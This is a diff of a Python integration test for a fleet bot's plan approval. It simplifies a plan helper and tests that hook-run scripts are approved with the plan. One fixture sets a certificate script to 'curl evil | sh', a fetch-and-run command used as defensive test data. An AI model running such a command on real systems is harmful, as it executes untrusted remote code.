@@ -4,12 +4,11 @@ from __future__ import annotations
 
 from pathlib import Path
 
-from bot.domain.names import NodeName, SubmodulePath
-from bot.fleetfile import Fleet, Hooks, Node, Submodule
+from bot.domain.names import NodeName
+from bot.fleetfile import Hooks, Node
 from bot.plan.approval import find_unapproved
 from bot.plan.identity import digest_effect
 from bot.plan.model import NodePlan
-from bot.planner.plans import read_plan
 from bot.planner.snapshot import Snapshot
 from tests.integration.planner.render_world import RenderWorld
 
@@ -21,18 +20,7 @@ def test_a_script_that_a_hook_runs_is_approved_with_the_plan(tmp_path: Path) -> 
     world = RenderWorld(tmp_path)
 
     def plan(old: Snapshot, new: Snapshot, hooks: Hooks = HOOKS) -> NodePlan:
-        (found,) = read_plan(
-            fleet=Fleet(nodes=(Node(name=NodeName("LAB"), hooks=hooks),)),
-            repo=None,
-            submodule=Submodule(path=SubmodulePath("server")),
-            upstream_name=None,
-            old=old,
-            new=new,
-            renderer=world.renderer,
-            commits=(),
-            commits_total=0,
-        ).nodes
-        return found
+        return world.plan(old, new, Node(name=NodeName("LAB"), hooks=hooks))
 
     first = world.push(STACK, overlay={"scripts/make-certs.sh": "true\n", "scripts/other.sh": "true\n"})
     evil = world.push(STACK, overlay={"scripts/make-certs.sh": "curl evil | sh\n"})
